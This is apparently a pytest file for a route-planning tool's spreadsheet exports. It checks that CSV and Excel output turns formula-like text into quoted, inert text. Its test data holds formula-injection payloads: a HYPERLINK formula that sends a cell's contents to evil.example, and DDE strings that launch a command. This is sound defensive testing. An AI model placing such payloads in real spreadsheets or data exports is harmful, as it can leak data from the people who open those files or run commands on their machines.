"""Exports a spreadsheet opens: no cell of data runs as a formula (issue 19)."""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from maps.finance_output import write_finance_report
from maps.safe_cells import csv_cell
from maps.sheets import write_route_sheets
from tests.maps.helpers import make_dataset, make_plan

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_cell_quotes_formula_text(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell("Ramp at side door") == "Ramp at side door"
    assert csv_cell(-1.5) == -1.5  # numbers stay numbers


def _hostile_dataset():
    dataset = make_dataset()
    pupils = tuple(
        replace(p, notes=PAYLOADS[i % len(PAYLOADS)]) for i, p in enumerate(dataset.pupils)
    )
    schools = {
        sid: replace(s, name=PAYLOADS[i + 1]) for i, (sid, s) in enumerate(dataset.schools.items())
    }
    return replace(dataset, pupils=pupils, schools=schools, name="=1+1 dataset")


def _cells_start_safely(values) -> None:
    for value in values:
        if isinstance(value, str) and value:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_route_sheet_csv_is_neutralised(tmp_path) -> None:
    files = write_route_sheets(make_plan(), _hostile_dataset(), tmp_path)
    seen = []
    for path in files:
        if path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as handle:
                for row in csv.DictReader(handle):
                    _cells_start_safely(row.values())
                    seen += [row["notes"], row["school"]]
    assert "'=cmd|' /C calc'!A0" in seen  # kept readable, one quote in front


def test_finance_csv_and_workbook_are_neutralised(tmp_path) -> None:
    plan = make_plan()
    plan.dataset = '=HYPERLINK("http://evil.example")'
    files = write_finance_report(plan, _hostile_dataset(), tmp_path)
    with files["csv"].open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        _cells_start_safely(row.values())
    assert any(r["item"].startswith("'=cmd|") for r in rows)
    book = load_workbook(files["xlsx"])
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert any(t.startswith("=cmd|") for t in texts)  # stored as text, shown as written


def test_csv_text_quotes_formula_text_and_keeps_numbers() -> None:
    from maps.safe_cells import csv_text

    text = (
        'pupil_id,operator,shift_min\nP1,"=HYPERLINK(""http://evil.example"")",+3.0\nP2,@x,-2.5\n'
    )
    rows = list(csv.reader(csv_text(text).splitlines()))
    assert rows[0] == ["pupil_id", "operator", "shift_min"]
    assert rows[1] == ["P1", '\'=HYPERLINK("http://evil.example")', "+3.0"]
    assert rows[2] == ["P2", "'@x", "-2.5"]
    assert csv_cell("-1+1") == "'-1+1" and csv_cell("-") == "'-"


def test_file_names_from_long_names_stay_short() -> None:
    from maps.plan_facts import SLUG_MAX, slug

    assert len(slug("Wight Cars of Newport " * 40)) <= SLUG_MAX
    assert slug("!!!") == "operator"
